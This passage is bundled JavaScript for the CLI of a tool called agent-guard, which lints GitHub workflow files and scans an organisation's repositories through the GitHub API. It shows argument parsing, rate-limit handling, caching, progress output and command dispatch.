    if (text !== null) return parseConfig(name, text);
  }
  return void 0;
}

// src/online/command.ts
var PROCESS_IO = { stdout: process.stdout, stderr: process.stderr, env: process.env };
var OnlineUsageError = class extends Error {
};
function parseOnlineFlag(flag, value, out) {
  switch (flag) {
    case "--no-cache":
      out.noCache = true;
      return true;
    case "--on-rate-limit":
      out.onRateLimit = parseRateLimitPolicy(value());
      return true;
    case "--max-wait":
      out.maxWait = positiveInt2("--max-wait", value(), 24 * 3600);
      return true;
    case "--max-depth":
      out.maxDepth = positiveInt2("--max-depth", value(), 16);
      return true;
    default:
      return false;
  }
}
function defaultRateLimitPolicy(env, isTTY) {
  if (env.CI === "true" || env.CI === "1") return "stop";
  return isTTY ? "wait" : "stop";
}
function parseRateLimitPolicy(value) {
  if (value !== "wait" && value !== "stop") throw new OnlineUsageError(`--on-rate-limit takes wait or stop, not '${value}'`);
  return value;
}
function positiveInt2(flag, value, max) {
  const n = Number(value);
  if (!/^\d+$/.test(value) || n < 1 || n > max) throw new OnlineUsageError(`${flag} takes a whole number from 1 to ${max}, not '${value}'`);
  return n;
}
function makeClient(flags, io, version) {
  const log = (line) => io.stderr.write(`agent-guard: ${line}
`);
  const token = io.env.GITHUB_TOKEN || io.env.GH_TOKEN || void 0;
  if (!token) log("no GITHUB_TOKEN or GH_TOKEN: unauthenticated requests are limited to 60 an hour and cannot read private repositories");
  const cache2 = new DiskCache(flags.noCache ? null : defaultCacheDir(io.env), log);
  return new GitHubClient({
    token,
    baseUrl: io.env.GITHUB_API_URL || void 0,
    cache: cache2,
    onRateLimit: flags.onRateLimit ?? defaultRateLimitPolicy(io.env, io.stderr.isTTY),
    maxWaitMs: (flags.maxWait ?? 900) * 1e3,
    userAgent: `agent-guard/${version}`,
    log
  });
}
async function prefetchForLint(paths, flags, version, io = PROCESS_IO) {
  const client = makeClient(flags, io, version);
  const store = new RemoteStore(client);
  const result = await prefetchPaths(paths, store, flags.maxDepth ?? DEFAULT_MAX_DEPTH);
  const s = client.stats;
  const parts = [`followed ${plural(result.followed.length, "remote file")}`, `${plural(s.requests, "request")} (${s.notModified} answered 304)`, `${plural(client.cache.hits, "cache hit")}`];
  let line = `online: ${parts.join(", ")}`;
  if (result.failed.length) line += `; ${result.failed.length} not followed: ${result.failed.slice(0, 3).map((f) => f.error).join("; ")}${result.failed.length > 3 ? "; \u2026" : ""}`;
  io.stderr.write(`agent-guard: ${line}
`);
  return result.resolver;
}
function parseScanArgs(args) {
  const out = { repoFilter: [], includeArchived: false, includeForks: false, format: "text", failOn: "none" };
  for (let i = 0; i < args.length; i++) {
    const arg = args[i];
    const eq = arg.startsWith("--") ? arg.indexOf("=") : -1;
    const flag = eq > 0 ? arg.slice(0, eq) : arg;
    const value = () => {
      if (eq > 0) return arg.slice(eq + 1);
      const next = args[++i];
      if (next === void 0) throw new OnlineUsageError(`${flag} needs a value`);
      return next;
    };
    switch (flag) {
      case "--org":
        out.org = value();
        if (!/^[A-Za-z0-9](?:[A-Za-z0-9-]{0,38})$/.test(out.org)) throw new OnlineUsageError(`'${out.org}' is not an organisation or user name`);
        break;
      case "--repo-filter": {
        const glob = value();
        const problem = globProblem(glob);
        if (problem) throw new OnlineUsageError(`--repo-filter: ${problem}`);
        out.repoFilter.push(glob);
        break;
      }
      case "--include-archived":
        out.includeArchived = true;
        break;
      case "--include-forks":
        out.includeForks = true;
        break;
      case "--format": {
        const f = value();
        if (!isScanFormat(f)) throw new OnlineUsageError(`unknown format '${f}' (text, json, sarif, markdown)`);
        out.format = f;
        break;
      }
      case "--output":
      case "-o":
        out.output = value();
        break;
      case "--fail-on": {
        const s = value();
        if (s !== "none" && !SEVERITIES.includes(s)) throw new OnlineUsageError(`--fail-on takes critical, high, medium, low or none, not '${s}'`);
        out.failOn = s;
        break;
      }
      case "--config":
        out.config = value();
        break;
      case "--help":
      case "-h":
        out.help = true;
        break;
      default:
        if (parseOnlineFlag(flag, value, out)) break;
        throw new OnlineUsageError(flag.startsWith("-") ? `unknown option '${flag}' (see agent-guard scan --help)` : `unexpected argument '${arg}' (scan takes --org ORG)`);
    }
  }
  return out;
}
async function scanMain(rawArgs, version, io = PROCESS_IO) {
  const fail2 = (message) => {
    io.stderr.write(`agent-guard: ${message}
`);
    return 2;
  };
  let args;
  let config;
  try {
    args = parseScanArgs(rawArgs);
    if (args.help) {
      io.stdout.write(helpFor("scan"));
      return 0;
    }
    if (!args.org) throw new OnlineUsageError("scan needs --org ORG (see agent-guard scan --help)");
    config = args.config ? readConfig(args.config) : void 0;
  } catch (err) {
    if (err instanceof OnlineUsageError || err instanceof ConfigError) return fail2(err.message);
    throw err;
  }
  const client = makeClient(args, io, version);
  const progress = new Progress(io);
  let scan;
  try {
    scan = await scanOrganisation({
      org: args.org,
      client,
      repoFilter: args.repoFilter,
      includeArchived: args.includeArchived,
      includeForks: args.includeForks,
      maxDepth: args.maxDepth,
      config,
      onStart: (total) => progress.start(total, args.org),
      onRepository: (outcome, done, total) => progress.update(outcome, done, total)
    });
  } catch (err) {
    progress.end();
    if (err instanceof GitHubError) return fail2(`cannot list the repositories of ${args.org}: ${err.message}`);
    throw err;
  }
  progress.end();
  const report2 = formatScan(scan, args.format, { toolVersion: version });
  try {
    if (args.output) import_node_fs15.default.writeFileSync(args.output, report2);
    else io.stdout.write(report2);
  } catch (err) {
    return fail2(`cannot write ${args.output}: ${err.code ?? err.message}`);
  }
  const scanned = scan.repos.filter((r) => r.status === "scanned").length;
  const failed = scan.repos.filter((r) => r.status === "failed").length;
  io.stderr.write(
    `agent-guard: scanned ${scanned} of ${plural(scan.listed, "repository", "repositories")}${failed ? `, ${failed} failed` : ""} in ${duration(scan.stats.durationMs)}; ${plural(scan.stats.requests, "API request")} (${scan.stats.notModified} answered 304), ${plural(scan.stats.cacheHits, "cache hit")}
`
  );
  if (failed > 0 && scanned === 0) return 2;
  if (args.failOn === "none") return 0;
  const threshold = severityRank(args.failOn);
  return scan.repos.some((r) => r.result?.findings.some((f) => severityRank(f.severity) >= threshold)) ? 1 : 0;
}
var Progress = class {
  constructor(io) {
    this.io = io;
    this.bar = !!io.stderr.isTTY && io.env.CI !== "true" && io.env.CI !== "1";
  }
  io;
  bar;
  total = 0;
  start(total, org) {
    this.total = total;
    this.io.stderr.write(`agent-guard: scanning ${plural(total, "repository", "repositories")} of ${org}
`);
  }
  update(outcome, done, total) {
    if (this.bar) {
      const width = 30;
      const filled = total ? Math.round(done / total * width) : width;
      const name = outcome.repo.fullName.length > 40 ? `${outcome.repo.fullName.slice(0, 39)}\u2026` : outcome.repo.fullName;
      this.io.stderr.write(`\r\x1B[K[${"#".repeat(filled)}${".".repeat(width - filled)}] ${done}/${total} ${name}`);
      return;
    }
    this.io.stderr.write(`agent-guard: [${done}/${total}] ${outcome.repo.fullName}: ${describeOutcome(outcome)}
`);
  }
  end() {
    if (this.bar && this.total) this.io.stderr.write("\r\x1B[K");
  }
};
function describeOutcome(outcome) {
  if (outcome.status !== "scanned") return outcome.status === "failed" ? `failed: ${outcome.error}` : outcome.status === "empty" ? "empty" : "no workflows";
  const findings = outcome.result.findings;
  return findings.length ? `${plural(findings.length, "finding")} (${severityBreakdown(countBySeverity(findings))})` : "no findings";
}

// src/cli.ts
var VERSION = "0.1.0";
var UsageError = class extends Error {
};
async function main(argv) {
  const [command2, ...rest] = argv;
  if (command2 !== void 0 && HELP[command2] && asksForHelp(rest)) {
    process.stdout.write(helpFor(command2));
    return 0;
  }
  try {
    switch (command2) {
      case "lint":
        return await lintCommand(rest);
      case "scan":
        return await scanMain(rest, VERSION);
      case "run":
        return await runMain(rest);
      case "doctor":
        return await doctorMain(rest);
      case "wrap":
        return wrapMain(rest, { ...processIO(), node: process.execPath, guard: process.argv[1] });
      case "action":
        return await actionMain(rest, processIO(), { version: VERSION, node: process.execPath, guard: process.argv[1] });
      case "version":
      case "--version":
        process.stdout.write(`agent-guard ${VERSION}
`);
        return 0;
      case "help":
      case "--help":
      case "-h":
        process.stdout.write(helpFor(rest[0]));
        return 0;
      case void 0:
        process.stderr.write(helpFor(void 0));
        return 2;
      default:
        throw new UsageError(`unknown command '${command2}' (agent-guard --help lists them)`);
    }
  } catch (err) {
    if (err instanceof UsageError || err instanceof ConfigError || err instanceof OnlineUsageError) {
      process.stderr.write(`agent-guard: ${err.message}
`);
      return 2;
    }
    process.stderr.write(`agent-guard: internal error: ${err.message}
`);
    return 2;
  }
}
function processIO() {
  return { stdout: process.stdout, stderr: process.stderr, env: process.env, cwd: process.cwd() };
}
function parseLintArgs(args) {
  const out = { paths: [], format: "text", failOn: "high" };
  for (let i = 0; i < args.length; i++) {
    const arg = args[i];
    const [flag, inline] = arg.startsWith("--") && arg.includes("=") ? [arg.slice(0, arg.indexOf("=")), arg.slice(arg.indexOf("=") + 1)] : [arg, void 0];
    const value = () => {
      if (inline !== void 0) return inline;
      const next = args[++i];
      if (next === void 0) throw new UsageError(`${flag} needs a value`);
      return next;
    };
    switch (flag) {
      case "--format": {
        const f = value();
        if (!isFormat(f)) throw new UsageError(`unknown format '${f}' (text, json, sarif, github)`);
        out.format = f;
        break;
      }
      case "--fail-on": {
        const s = value();
        if (s !== "none" && !SEVERITIES.includes(s)) throw new UsageError(`--fail-on takes critical, high, medium, low or none, not '${s}'`);
        out.failOn = s;
        break;
      }
      case "--config":
        out.config = value();
        break;
      case "--output":
      case "-o":
        out.output = value();
        break;
      case "--baseline":
        out.baseline = value();
        break;
      case "--write-baseline":
        out.writeBaseline = value();
        break;
      case "--online":
        out.online = true;
        break;
      default:
        if (parseOnlineFlag(flag, value, out)) break;
        if (flag.startsWith("-") && flag !== "-") throw new UsageError(`unknown option '${flag}'`);
        out.paths.push(arg);
    }
  }
  return out;
}
async function lintCommand(rawArgs) {
  const args = parseLintArgs(rawArgs);
  if ((args.noCache || args.onRateLimit || args.maxWait || args.maxDepth) && !args.online) {
    throw new UsageError("--no-cache, --on-rate-limit, --max-wait and --max-depth go with --online");
  }
  for (const given of args.paths) if (!import_node_fs16.default.existsSync(given)) throw new UsageError(`${given}: no such file or directory`);
  const configPath = args.config ?? defaultConfigPath(args.paths);
  const config = configPath ? readConfig(configPath) : void 0;
  const remote = args.online ? await prefetchForLint(args.paths, args, VERSION) : void 0;
  let result = remote ? lint({ paths: args.paths, config, remote }) : await lintInParallel({ paths: args.paths, config }, __filename);
  const all = result.findings;
  if (args.baseline) {
    const outcome = applyBaseline(all, readBaseline(args.baseline), result.root ?? process.cwd());
    process.stderr.write(`agent-guard: ${baselineNote(args.baseline, outcome)}
`);
    result = { ...result, findings: outcome.fresh };
  }
  if (args.writeBaseline) {
    writeBaseline(args.writeBaseline, createBaseline(all, result.root ?? process.cwd()));
    process.stderr.write(`agent-guard: wrote ${all.length} finding${all.length === 1 ? "" : "s"} to baseline ${args.writeBaseline}
`);
  }
  for (const note of result.notes ?? []) process.stderr.write(`agent-guard: ${note}
`);
  const toStdout = !args.output;
  const report2 = formatReport(result, args.format, {
    color: toStdout && args.format === "text" && colorEnabled(process.stdout.isTTY, process.env),
    toolVersion: VERSION,
    root: result.root ?? process.cwd()
  });
  if (args.output) writeOutput(args.output, report2);
  else process.stdout.write(report2);
  const nothingRead = result.stats.workflows === 0 && result.errors.length > 0;
  if (nothingRead) return 2;
  if (args.failOn === "none" || args.writeBaseline) return 0;
  const threshold = severityRank(args.failOn);
  return result.findings.some((f) => severityRank(f.severity) >= threshold) ? 1 : 0;
}
function writeOutput(file, text) {
  try {
    import_node_fs16.default.writeFileSync(file, text);
  } catch (err) {
    throw new UsageError(`cannot write ${file}: ${err.code ?? err.message}`);
  }
}
if (serveShareIfWorker()) {
} else if (require.main === module) {
  main(process.argv.slice(2)).then(
    (code3) => {
      process.exitCode = code3;
    },
    (err) => {
      process.stderr.write(`agent-guard: internal error: ${err.message}
`);
      process.exitCode = 2;
    }
  );
}
// Annotate the CommonJS export names for ESM import in node:
0 && (module.exports = {
  VERSION,
  lint,
  main
});
